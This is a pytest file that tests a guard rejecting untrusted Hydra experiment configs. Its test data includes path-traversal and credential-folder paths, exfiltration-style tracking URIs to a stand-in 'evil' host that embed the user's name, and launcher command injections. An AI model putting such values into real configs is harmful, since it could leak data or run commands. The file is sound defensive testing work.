"""What a config file of somebody else's may say, and what only the command line may."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest
from hydra import compose as hydra_compose
from hydra import initialize_config_dir

from dlsearch.config.compose import compose_config, config_dir
from dlsearch.config.guard import guarded_composition
from dlsearch.config.register import register
from dlsearch.core.errors import ConfigError
from tests.kinds import first_of_each_kind

#: By key: YAMLs of an experiment that ask for what is not theirs to say.
REFUSED = {
    # folders
    "paths.store": [
        "paths: {store: /elsewhere}",
        "paths: {store: ../elsewhere}",
        "paths: {store: ~/elsewhere}",
        "paths: {store: .git/hooks}",
        "paths: {store: .ssh}",
        "paths: {store: link}",
        "paths: {store: link/below}",
        "paths: {store: '${oc.env:HOME}'}",
        "paths: {store: '${oc.env:NOBODY_SETS_THIS,/elsewhere}'}",
        "paths: {store: '${oc.select:nothing,/elsewhere}'}",
        "paths: {store: '${oc.select:hydra.job.name,/elsewhere}'}",
        "paths: {store: '${data.elsewhere}'}\ndata: {elsewhere: '/elsewhere'}",
        "paths: {store: '${oc.decode:/elsewhere}'}",
        "paths: {store: '${now:/elsewhere}'}",
        "paths: {store: '${hydra:nothing}'}",
    ],
    "paths.data": ["paths: {data: /home}", "paths: {data: ../..}"],
    "paths.cache": ["paths: {cache: /elsewhere}"],
    "paths.weights": ["paths: {weights: '${paths.store}/../../elsewhere'}"],
    "data.root": ["data: {root: /home}", "data: {root: '${oc.env:HOME}/pictures'}", "data: {root: link/pictures}"],
    "data.cache": ["data: {cache: ~root}"],
    "study.enqueue": ["study: {enqueue: /etc/passwd}", "study: {enqueue: ../sets.yaml}"],
    "transfer.weights": ["transfer: {weights: 'file:/home/me/model.ckpt'}", "transfer: {weights: 'file:../m.ckpt'}"],
    "callbacks.mine.dirpath": [
        "callbacks: {mine: {_target_: pytorch_lightning.callbacks.ModelCheckpoint, dirpath: /elsewhere}}",
    ],
    "callbacks.mine.filename": [
        "callbacks: {mine: {_target_: pytorch_lightning.callbacks.ModelCheckpoint, filename: ../../x}}",
    ],
    "callbacks.mine.tracking_uri": [
        "callbacks: {mine: {_target_: pytorch_lightning.loggers.MLFlowLogger, tracking_uri: 'http://evil'}}",
        "callbacks: {mine: {_target_: pytorch_lightning.loggers.MLFlowLogger, tracking_uri: 'file:///home'}}",
    ],
    "space.data.root": ["space: {data.root: 'choice(digits, /home)'}"],
    "hydra.sweeper.params.data.root": ["hydra: {sweeper: {params: {data.root: 'choice(a,../../b)'}}}"],
    # destinations
    "study.storage": [
        "study: {storage: 'postgresql+psycopg://me@evil/x'}",
        "study: {storage: 'sqlite:////elsewhere/x.db'}",
        "study: {storage: 'sqlite:///../x.db'}",
        "study: {storage: 'sqlite:///x.db?vfs=unix-none'}",
        "study: {storage: '${oc.env:NOBODY_SETS_THIS}'}",
    ],
    "tracking.uri": [
        "tracking: {uri: 'http://evil'}",
        "tracking: {uri: 'https://evil/${oc.env:USER,nobody}'}",
        "tracking: {uri: 'sqlite:////elsewhere/mlflow.db'}",
        "tracking: {uri: databricks}",
        "tracking: {uri: /elsewhere}",
    ],
    # what launchers fill in
    "worker.join": ["worker: {join: theirs}"],
    "worker.session": ["worker: {session: theirs}"],
    # Hydra's own node
    "hydra.overrides.task": ["hydra: {overrides: {task: ['paths.store=/elsewhere']}}"],
    "hydra.overrides.hydra": ["hydra: {overrides: {hydra: ['hydra.searchpath=[pkg://evil]']}}"],
    "hydra.runtime.cwd": ["hydra: {runtime: {cwd: /}}"],
    "hydra.runtime.output_dir": ["hydra: {runtime: {output_dir: /elsewhere}}"],
    "hydra.runtime.choices.model": ["hydra: {runtime: {choices: {model: x}}}"],
    "hydra.job.num": ["hydra: {job: {num: 3}}"],
    "hydra.job.id": ["hydra: {job: {id: x}}"],
    "hydra.job.chdir": ["hydra: {job: {chdir: true}}"],
    "hydra.run.dir": [
        "hydra: {run: {dir: /elsewhere}}",
        "hydra: {run: {dir: /elsewhere}, output_subdir: x}",
        "hydra: {run: {dir: '../${now:%Y}'}}",
        "hydra: {run: {dir: outputs}}",
    ],
    "hydra.sweep.dir": ["hydra: {sweep: {dir: /elsewhere}}", "hydra: {sweep: {dir: conf}}"],
    "hydra.sweep.subdir": ["hydra: {sweep: {subdir: '../../../../../elsewhere'}}"],
    "hydra.sweep.mode": ["hydra: {sweep: {mode: '777'}}"],
    "hydra.output_subdir": [
        "hydra: {output_subdir: .github}",
        "hydra: {output_subdir: conf}",
        "hydra: {output_subdir: ../../elsewhere}",
    ],
    # launchers
    "hydra.launcher.submitit_folder": [
        "submitit_local: {submitit_folder: /elsewhere}}",
    ],
    "hydra.launcher.setup": [
        "slurm: {setup: [touch canary]}}",
    ],
    "hydra.launcher.additional_parameters.wrap": [
        "slurm: {additional_parameters: {wrap: touch canary}}}",
    ],
    "hydra.launcher.python": ["slurm: {python: ./evil}}"],
    "hydra.launcher.srun_args": ["slurm: {srun_args: [--prolog=evil]}}"],
    "hydra.launcher.name": [
        'submitit_local: {name: "x\\ntouch canary"}}',
        "submitit_local: {name: a b}}",
    ],
    "hydra.launcher.temp_folder": [
        "joblib: {temp_folder: /elsewhere}}",
    ],
    "hydra.launcher.pre_dispatch": [
        "joblib: {pre_dispatch: '__import__(\"os\")'}}",
    ],
    "hydra.launcher.ray.init.address": ["ray: {ray: {init: {address: 'evil:6379'}}}}"],
    "hydra.launcher.ray.init.include_dashboard": ["ray: {ray: {init: {include_dashboard: true}}}}"],
    "hydra.launcher.ray.init._temp_dir": ["ray: {ray: {init: {_temp_dir: /elsewhere}}}}"],
    "hydra.launcher.ray.init.runtime_env.pip": ["ray: {ray: {init: {runtime_env: {pip: [evil]}}}}}"],
    "hydra.launcher.ray.remote.runtime_env.py_executable": [
        "ray: {ray: {remote: {runtime_env: {py_executable: ./evil}}}}}",
    ],
    # sweepers
    "hydra.sweeper.storage": ["hydra: {sweeper: {storage: 'sqlite:///x.db'}}"],
    "hydra.sweeper.custom_search_space": ["hydra: {sweeper: {custom_search_space: evil.space}}"],
    "hydra.sweeper.params.paths.store": ["hydra: {sweeper: {params: {paths.store: x}}}"],
    "hydra.sweeper.params.+hydra.job.env_set.OMP_NUM_THREADS": [
        "hydra: {sweeper: {params: {+hydra.job.env_set.OMP_NUM_THREADS: '1'}}}",
    ],
    "hydra.sweeper.params.study.storage": ["hydra: {sweeper: {params: {study.storage: 'sqlite:///x.db'}}}"],
    "hydra.sweeper.params.allow_targets": ["hydra: {sweeper: {params: {allow_targets: '[evil]'}}}"],
    # what a terminal would act on
    "hydra.help.header": ['hydra: {help: {header: "\\e]0;x\\a"}}'],
    "data.note": ['data: {note: "\\e[2J"}'],
}  # fmt: skip


@pytest.fixture(autouse=True)
def _folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    here = tmp_path / "here"
    (here / "conf" / "experiment").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (here / "link").symlink_to(tmp_path / "outside")
    monkeypatch.chdir(here)
    for name in [name for name in os.environ if name.startswith(("DLSEARCH_", "MLFLOW_"))]:
        monkeypatch.delenv(name)


def compose(text: str, *words: str):
    """Compose an experiment of theirs; a text that begins with a launcher's name is about that one, and it is typed."""
    launcher = text.partition(":")[0]
    if launcher in ("joblib", "ray", "slurm", "submitit_local"):
        text = f"hydra: {{launcher:{text.removeprefix(f'{launcher}:')}"
        words = (*words, f"hydra/launcher={launcher}")
    Path("conf/experiment/theirs.yaml").write_text(f"# @package _global_\n{text}\n")
    return compose_config(["experiment=theirs", *words], config_dirs=["conf"], with_hydra=True)


@pytest.mark.parametrize(
    ("key", "text"),
    first_of_each_kind(
        [(key, text) for key, texts in REFUSED.items() for text in texts],
        lambda case: case[0].rsplit(".", 1)[0],
    ),
    ids=lambda v: v[:60],
)
def test_a_file_may_not_say(key: str, text: str) -> None:
    with pytest.raises(ConfigError) as refused:
        compose(text)
    assert refused.value.key == key
    assert refused.value.hint


#: YAMLs that ask for nothing that leaves the working folder.
ADMITTED = [
    "paths: {store: ./runs}",
    "paths: {store: '${oc.env:DLSEARCH_STORE,./mlruns}', data: '${oc.env:DLSEARCH_DATA,./data}'}",
    "paths: {store: runs/of/mine, cache: '${paths.store}/other', weights: runs/weights}",
    "data: {root: '${paths.data}/flowers'}",
    "data: {root: images/flowers}",
    "study: {enqueue: conf/sets.yaml}",
    "study: {enqueue: [{model.width: 3}]}",
    "study: {storage: 'sqlite:///runs/x.db'}",
    "study: {objective: val/loss, direction: minimize, timeout: 1h}",
    "tracking: {enabled: false, uri: null, project: theirs}",
    "transfer: {weights: 'study:theirs/3', head: 'net.classifier.*'}",
    "transfer: {weights: 'file:runs/model.ckpt'}",
    "transfer: {weights: 'torchvision:resnet18'}",
    "hydra: {run: {dir: '${paths.store}/hydra/${now:%Y}'}, output_subdir: .hydra}",
    "hydra: {sweep: {dir: '${paths.store}/hydra', subdir: '${hydra.job.num}'}}",
    "hydra: {run: {dir: .}}",
    "hydra: {verbose: true, mode: MULTIRUN, job: {name: theirs, env_set: {OMP_NUM_THREADS: '2'}}}",
    "hydra: {launcher: {workers: 2}}",
    "hydra: {sweeper: {params: {model.width: 'choice(1,2)', +data.x: '1,2'}}}",
    "hydra: {help: {header: theirs, footer: 'see /docs or https://example.org'}}",
    "joblib: {n_jobs: 2, pre_dispatch: 3*n_jobs}}",
    "submitit_local: {timeout_min: 3, mem_gb: 2}}",
    "model: {_target_: theirs.Net, weights: 'https://example.org/net.pt', name: a/b}\nallow_targets: [theirs]",
    "name: '${hydra:runtime.choices.model}_mine'",
    "data: {where: '${hydra:runtime.cwd}/images'}",
    "slurm: {partition: gpu, gres: 'gpu:a100:2', account: lab, timeout_min: 60, name: theirs}}",
    "ray: {ray: {remote: {num_cpus: 4, num_gpus: 0.5, resources: {fast: 1}}}}}",
]  # fmt: skip


@pytest.mark.parametrize("text", ADMITTED, ids=lambda text: text[:60])
def test_a_file_may_say(text: str) -> None:
    compose(text)


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("paths: {store: /elsewhere}", "paths.store=/chosen"),
        ("study: {storage: 'postgresql+psycopg://me@evil/x'}", "study.storage=null"),
        ("tracking: {uri: 'http://evil'}", "tracking.uri=http://mine:5000"),
        ("data: {root: /home}", "data.root=/data/flowers"),
        ("hydra: {run: {dir: /elsewhere}}", "hydra.run.dir=/chosen"),
        ("slurm: {setup: [touch canary]}}", "hydra.launcher.setup=[module load cuda]"),
        ("ray: {ray: {init: {address: evil}}}}", "hydra.launcher.ray.init={address: auto}"),
    ],
)
def test_what_is_typed_takes_the_place_of_what_the_file_says(text: str, word: str) -> None:
    with pytest.raises(ConfigError):
        compose(text)
    compose(text, word)


@pytest.mark.parametrize(
    ("variable", "value", "text"),
    [
        ("DLSEARCH_STORE", "/chosen", "paths: {store: '${oc.env:DLSEARCH_STORE,./mlruns}'}"),
        ("DLSEARCH_DATA", "/chosen", "data: {root: '${paths.data}/flowers'}"),
        ("DLSEARCH_DATA", "/chosen", "data: {root: /chosen/flowers}"),
        (
            "DLSEARCH_STORAGE",
            "postgresql+psycopg://me@mine/x",
            "study: {storage: '${oc.env:DLSEARCH_STORAGE}'}",
        ),
        (
            "MLFLOW_TRACKING_URI",
            "http://mine:5000",
            "tracking: {uri: '${oc.env:MLFLOW_TRACKING_URI}'}",
        ),
    ],
)
def test_what_the_environment_says_of_places_is_the_users(
    monkeypatch, variable: str, value: str, text: str
) -> None:
    if "${oc.env:DLSEARCH_STORAGE}" in text or "/chosen/flowers" in text or "MLFLOW" in text:
        with pytest.raises(ConfigError):
            compose(text)
    monkeypatch.setenv(variable, value)
    compose(text)


def test_an_environment_variable_of_another_name_is_not(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOMETHING", "http://inside:5000")
    with pytest.raises(ConfigError, match=r"^tracking\.uri"):
        compose("tracking: {uri: '${oc.env:SOMETHING}'}")


@pytest.mark.parametrize("group", ["paths", "tracking", "hydra/launcher", "data"])
def test_a_group_of_theirs_is_checked_like_an_experiment(group: str) -> None:
    Path(f"conf/{group}").mkdir(parents=True)
    text = {
        "paths": "defaults: [default]\nstore: /elsewhere",
        "tracking": "defaults: [default]\nuri: http://evil",
        "hydra/launcher": "defaults: [submitit_slurm]\nsetup: [touch canary]",
        "data": "defaults: [digits]\nroot: /home",
    }[group]
    Path(f"conf/{group}/theirs.yaml").write_text(f"{text}\n")
    with pytest.raises(ConfigError, match=r"theirs\.yaml"):
        compose_config([f"{group}=theirs"], config_dirs=["conf"], with_hydra=True)


@pytest.mark.parametrize("launcher", ["ray", "slurm", "submitit_slurm"])
def test_a_launcher_that_takes_jobs_elsewhere_is_typed(launcher: str) -> None:
    ours = (config_dir() / "config.yaml").read_text()
    Path("conf/theirs.yaml").write_text(
        ours.replace("hydra/launcher: local", f"hydra/launcher: {launcher}")
    )
    place = f"hydra.searchpath=['file://{config_dir()}']"
    register()
    with (
        initialize_config_dir(version_base="1.3", config_dir=str(Path("conf").resolve())),
        guarded_composition(),
    ):
        with pytest.raises(ConfigError, match=f"type hydra/launcher={launcher}"):
            hydra_compose("theirs", [place], return_hydra_config=True)
        hydra_compose("theirs", [place, f"hydra/launcher={launcher}"], return_hydra_config=True)


@pytest.mark.parametrize("place", ["pkg://evil", "http://evil", "structured://"])
def test_a_main_config_of_theirs_imports_no_package(
    monkeypatch: pytest.MonkeyPatch, place: str
) -> None:
    Path("evil").mkdir()
    Path("evil/__init__.py").write_text("open('canary', 'w')")
    monkeypatch.syspath_prepend(str(Path.cwd()))
    ours = (config_dir() / "config.yaml").read_text()
    Path("conf/theirs.yaml").write_text(f"{ours}  searchpath: ['{place}']\n")
    with (
        initialize_config_dir(version_base="1.3", config_dir=str(Path("conf").resolve())),
        guarded_composition(),
        pytest.raises(ConfigError, match=r"^hydra\.searchpath"),
    ):
        hydra_compose("theirs")
    assert not Path("canary").exists()


@pytest.mark.parametrize(
    "inside", ["../outside/secret", "/../outside/secret", "model/../../../outside/secret"]
)
def test_a_defaults_list_reads_no_file_outside_its_folder(tmp_path: Path, inside: str) -> None:
    (tmp_path / "outside" / "secret.yaml").write_text("canary: 1\n")
    (tmp_path / "here" / "conf" / "model").mkdir()
    for text in (
        f"defaults: [/{inside}]",
        f"defaults: [{inside}]",
        f"defaults: [{{/model: ../{inside}}}]",
    ):
        with pytest.raises(ConfigError) as refused:
            compose(text)
        assert "canary" not in str(refused.value)


def test_a_link_reads_no_file_outside_either(tmp_path: Path) -> None:
    (tmp_path / "outside" / "secret.yaml").write_text("canary: 1\n")
    Path("conf/experiment/linked.yaml").symlink_to(tmp_path / "outside" / "secret.yaml")
    with pytest.raises(ConfigError, match="lies outside"):
        compose_config(["experiment=linked"], config_dirs=["conf"])


def _chain(link: str, length: int, first: str = "x") -> str:
    links = [
        f"a{n}: {link.replace('BEFORE', f'a{n - 1}').replace('AFTER', f'a{n + 1}')}"
        for n in range(1, length)
    ]
    return "data:\n" + "".join(f"  {line}\n" for line in [f"a0: {first}", *links])


@pytest.mark.parametrize(
    "link",
    [
        "'${data.BEFORE}${data.BEFORE}'",
        "'${.BEFORE}${.BEFORE}'",
        "'${oc.select:data.BEFORE}${oc.select:data.BEFORE}'",
        "['${..BEFORE}', '${..BEFORE}']",
        "{p: '${data.BEFORE}', q: '${data.BEFORE}'}",
        "'${data[BEFORE]}${data[BEFORE]}'",
        "'${data.${data.a0}}${data.BEFORE}'",
        "'${.${data.a0}}${.${data.a0}}'",
        "'${${data.a0}}'",
        "'${oc.select:data.BEFORE,data.AFTER}${oc.select:data.BEFORE,data.AFTER}'",
    ],
)
def test_interpolations_that_grow_beyond_all_memory_are_not_resolved(link: str) -> None:
    began = time.process_time()
    with pytest.raises(ConfigError, match="grow to more than"):
        compose(_chain(link, 60))
    assert time.process_time() - began < 20


def test_a_long_text_and_many_interpolations_are_no_bomb() -> None:
    compose(_chain("'${data.BEFORE}/x'", 40))
    compose("data: {kind: digits, sizes: {digits: 3}, size: '${data.sizes.${data.kind}}'}")
    compose(
        "hydra: {run: {dir: '${paths.store}/${hydra:runtime.choices.model}'}}\nname: '${oc.env:NOBODY_SETS_THIS,x}'"
    )
    compose("data:\n" + "".join(f"  a{n}: '${{seed}} and ${{paths.store}}'\n" for n in range(300)))
    compose(f"data: {{note: '{'a/b ' * 2_000}'}}")


def test_a_file_of_many_paths_is_checked_in_time() -> None:
    began = time.process_time()
    compose("data: {files: [" + ", ".join(f"a/b/{n}" for n in range(5_000)) + "]}")
    assert time.process_time() - began < 20


def test_the_built_in_configs_are_not_somebody_elses(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DLSEARCH_STORE", "/srv/store")
    compose_config(
        ["hydra/launcher=slurm", "hydra.launcher.setup=[module load cuda]"], with_hydra=True
    )
    compose_config(
        ["hydra/launcher=ray", "+hydra.launcher.ray.remote.resources={fast: 1}"], with_hydra=True
    )
    compose_config(
        ["hydra.run.dir=/elsewhere", "hydra.output_subdir=x", "paths.data=/data"], with_hydra=True
    )
